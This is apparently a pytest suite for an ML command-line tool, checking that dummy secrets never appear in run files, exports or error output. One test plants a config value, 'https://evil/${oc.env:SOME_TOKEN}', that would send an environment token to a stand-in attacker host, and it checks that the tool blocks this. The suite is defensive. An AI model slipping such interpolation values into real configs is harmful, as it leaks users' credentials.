"""Secrets are neither recorded nor shown."""

from __future__ import annotations

import json
import shutil
import warnings
import zipfile
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner, Result

from dlcli.cli.app import app
from dlcli.config.environment import from_environment
from dlcli.errors import CorruptRun
from dlcli.gate.gate import Gate
from dlcli.sanitize import redact

NET = """
import os, warnings
from torch import nn

class SecretNet(nn.Module):
    accepts = {"table"}

    def __init__(self, input_shape, num_outputs, api_key="", pin_password=0, url="", headers=None, fail=False):
        super().__init__()
        assert api_key in ("lit-" "secret-11", "lit-" "secret-12"), f"not {api_key}"
        assert pin_password == 987_654_321
        assert headers == {"Authorization": "Bearer hdr-" "secret-44", "X": "env-" "secret-77"}
        self.said = f"{api_key} {pin_password} {url} {headers}"
        warnings.warn(f"it uses {self.said}")
        self.net, self.fail = nn.Linear(input_shape[0], num_outputs), fail

    def forward(self, x):
        if self.fail and self.training and x.shape[0] > 8:
            raise ValueError(f"refused: {self.said} password=other-" "secret-88")
        return self.net(x)
"""
SECRETS = (
    "lit-secret-11", "env-secret-77", "987654321", "url-secret-22", "sig-secret-33", "hdr-secret-44",
    "other-secret-88",
)  # fmt: skip
WORDS = [
    "dataset=iris",
    "model=secretnet",
    "model.api_key=lit-secret-11",
    "model.pin_password=987654321",
    "model.url='https://bob:url-secret-22@h/x?sig=sig-secret-33'",
    "model.headers={Authorization: Bearer hdr-secret-44, X: '${oc.env:SOME_TOKEN}'}",
    "run_name=try-lit-secret-11",
    "experiment_name=of-env-secret-77",
    "trainer.max_epochs=1",
    "trainer.accelerator=cpu",
]
AGAIN = {
    "DLCLI_SECRET_MODEL_API_KEY": "lit-secret-11",
    "DLCLI_SECRET_MODEL_PIN_PASSWORD": "987654321",
    "DLCLI_SECRET_MODEL_URL": "bob:url-secret-22",
    "DLCLI_SECRET_MODEL_URL_2": "sig-secret-33",
    "DLCLI_SECRET_MODEL_HEADERS_AUTHORIZATION": "Bearer hdr-secret-44",
}


@pytest.fixture(autouse=True)
def _forgetful(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Reset the environment and the registered secrets, as in a new process."""
    monkeypatch.setenv("SOME_TOKEN", "env-secret-77")
    for name in AGAIN:
        monkeypatch.setenv(name, "")
        monkeypatch.delenv(name)
    monkeypatch.setattr(redact, "_registered", set())
    yield


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("secrets")
    (folder / "conf" / "model").mkdir(parents=True)
    (folder / "secretnet.py").write_text(NET)
    (folder / "conf" / "dlcli.yaml").write_text("# Mine.\n")
    (folder / "conf" / "model" / "secretnet.yaml").write_text(
        "# It has secrets.\n_target_: secretnet.SecretNet\n"
    )
    return folder


def dlcli(home: Path, *words: str, environment: dict[str, str] | None = None) -> Result:
    with warnings.catch_warnings():
        warnings.simplefilter("default")
        return CliRunner().invoke(
            app, [*words, "-C", str(home / "conf"), "--runs-dir", str(home / "runs")], env=environment
        )


def leaks(folder: Path, said: str = "", of: Sequence[str] = SECRETS) -> list[str]:
    """Return the files (with their names) and output that contain a secret."""
    found = [f"output: {secret}" for secret in of if secret in said]
    for file in folder.rglob("*"):
        content = str(file).encode() + (file.read_bytes() if file.is_file() else b"")
        found += [f"{file}: {secret}" for secret in of if secret.encode() in content]
    return found


@pytest.fixture(scope="module")
def trained(home: Path) -> tuple[Path, Result]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SOME_TOKEN", "env-secret-77")
        for name in AGAIN:
            patch.setenv(name, "")
            patch.delenv(name)
        done = dlcli(home, "train", *WORDS)
    (run,) = (home / "runs").glob("of-*/*/artifacts")
    return run, done


def test_a_run_with_secrets_trains_and_no_byte_has_them(home: Path, trained: tuple[Path, Result]) -> None:
    run, done = trained
    assert done.exit_code == 0, done.output
    assert leaks(home / "runs", done.output) == []
    model = yaml.safe_load((run / "config.yaml").read_text())["model"]
    assert model["api_key"] == "${oc.env:DLCLI_SECRET_MODEL_API_KEY}"
    assert model["url"].startswith("https://${oc.env:DLCLI_SECRET_MODEL_URL}@h/x?sig=")
    assert model["headers"]["X"] == "${oc.env:SOME_TOKEN}"
    assert json.loads((run / "model" / "model.json").read_text())["model"] == model
    assert (
        "model.api_key=${oc.env:DLCLI_SECRET_MODEL_API_KEY}"
        in (run / "overrides.txt").read_text().splitlines()
    )
    assert "warning: model.api_key: is a secret in plain text" in done.output


def test_what_is_written_later_and_handed_on_has_none(
    home: Path, trained: tuple[Path, Result], tmp_path: Path
) -> None:
    later = ["tag-secret-55", "url-secret-66", "note-secret-77", "name-secret-88"]
    runs, run_id = ["--runs-dir", str(home / "runs")], trained[0].parent.name
    tags = [f"api_token={later[0]}", f"where=https://u:{later[1]}@h/"]
    said = ""
    for words in (
        ["tag", run_id, *tags],
        ["note", run_id, f"Send Bearer {later[2]} to it."],
        ["rename", run_id, f"password={later[3]}"],
        ["show", run_id],
        ["export", run_id, str(tmp_path / "runs.zip")],
        ["push", str(tmp_path / "pushed"), run_id],
        ["push", f"sqlite:///{tmp_path}/other.db", run_id],
    ):
        done = CliRunner().invoke(app, ["runs", *words, *runs])
        assert done.exit_code == 0, done.output
        said += done.output
    with zipfile.ZipFile(tmp_path / "runs.zip") as archive:
        archive.extractall(tmp_path / "unpacked")
    for folder in (home / "runs", tmp_path):
        assert leaks(folder, said, (*SECRETS, *later)) == []


def test_a_failure_reveals_no_secret(home: Path) -> None:
    done = dlcli(home, "train", *WORDS, "model.fail=true", "--json")
    assert done.exit_code == 1, done.output
    assert "refused: *** *** https://***@h/x?sig=***" in done.stdout
    assert leaks(home / "runs", done.output) == []


@pytest.mark.parametrize("command", ["eval", "predict", "export", "resume"])
def test_commands_that_need_the_secrets_again_report_it(
    home: Path, trained: tuple[Path, Result], command: str, tmp_path: Path
) -> None:
    rows = tmp_path / "new.csv"
    rows.write_text("sepal length (cm),sepal width (cm),petal length (cm),petal width (cm)\n5,3,1,0.2\n")
    more = {
        "predict": [str(rows)],
        "resume": ["trainer.max_epochs=2"],
        "export": ["--output", str(tmp_path / "net.pt2")],
    }.get(command, [])
    done = dlcli(home, command, str(trained[0]), *more)
    assert done.exit_code == 2, done.output
    assert "model.api_key" in done.output
    assert "export DLCLI_SECRET_MODEL_API_KEY=VALUE" in done.output
    assert "Traceback" not in done.output


def test_who_sets_them_again_goes_on(home: Path, trained: tuple[Path, Result]) -> None:
    assert dlcli(home, "eval", str(trained[0]), environment=AGAIN).exit_code == 0
    without = {name: value for name, value in AGAIN.items() if "API_KEY" not in name}
    done = dlcli(
        home,
        "resume",
        str(trained[0]),
        "trainer.max_epochs=2",
        "model.api_key=lit-secret-12",
        environment=without,
    )
    assert done.exit_code == 0, done.output
    assert leaks(home / "runs", done.output, (*SECRETS, "lit-secret-12")) == []


def test_a_missing_variable_is_named(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("SOME_TOKEN")
    done = dlcli(home, "train", *WORDS)
    assert done.exit_code == 2
    assert "model.headers.X" in done.output
    assert "reads the environment variable SOME_TOKEN, which is not set" in done.output


def test_a_mask_is_not_accepted_as_a_value(home: Path) -> None:
    done = dlcli(home, "train", *WORDS, "model.api_key='***'")
    assert done.exit_code == 2
    assert "model.api_key" in done.output
    assert "the placeholder of a secret that was removed" in done.output


def test_a_secret_is_not_searched(home: Path) -> None:
    done = dlcli(home, "sweep", *WORDS, "model.api_key=lit-secret-11,lit-secret-12", "--trials", "2")
    assert done.exit_code == 2
    assert "is a secret, but every value of a search is recorded" in done.output
    assert leaks(home / "runs", done.output, ("lit-secret-12",)) == []


def test_a_folder_from_elsewhere_reads_no_variable(
    home: Path, trained: tuple[Path, Result], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    theirs = shutil.copytree(trained[0], tmp_path / "theirs")
    config = yaml.safe_load((theirs / "config.yaml").read_text())
    config["dataset"] = {"_target_": "dlcli.datasets.table.load", "path": "https://evil/${oc.env:SOME_TOKEN}"}
    config["dataset"] |= {"target": "${oc.env:SOME_TOKEN}", "batch_size": 8}
    (theirs / "config.yaml").write_text(yaml.safe_dump(config))
    description = json.loads((theirs / "model" / "model.json").read_text())
    description["model"] = {"_target_": "dlcli.models.mlp.MLP", "activation": "${oc.env:SOME_TOKEN}"}
    (theirs / "model" / "model.json").write_text(json.dumps(description))
    for command in ("eval", "predict"):
        done = CliRunner().invoke(app, [command, str(theirs), "--runs-dir", str(tmp_path / "runs")])
        assert done.exit_code in (1, 2)
        assert "env-secret-77" not in done.output
    text, where = "https://evil/${oc.env:SOME_TOKEN}", "dataset.path"
    with (
        Gate("theirs").closed(),
        pytest.raises(CorruptRun, match=r"would read the environment \(SOME_TOKEN\)"),
    ):
        from_environment(text, where)
    with Gate("mine", variables=frozenset({"SOME_TOKEN"})).closed():
        assert from_environment(text, where) == "https://evil/env-secret-77"


def test_a_sweep_with_secrets(home: Path) -> None:
    words = [word for word in WORDS if not word.startswith(("run_name", "experiment"))]
    done = dlcli(home, "sweep", *words, "optimizer.lr=0.1,0.01", "--json")
    assert done.exit_code == 0, done.output
    assert leaks(home / "runs", done.output) == []
    assert (
        "'model.api_key=${oc.env:DLCLI_SECRET_MODEL_API_KEY}'" in json.loads(done.stdout)["best"]["command"]
    )
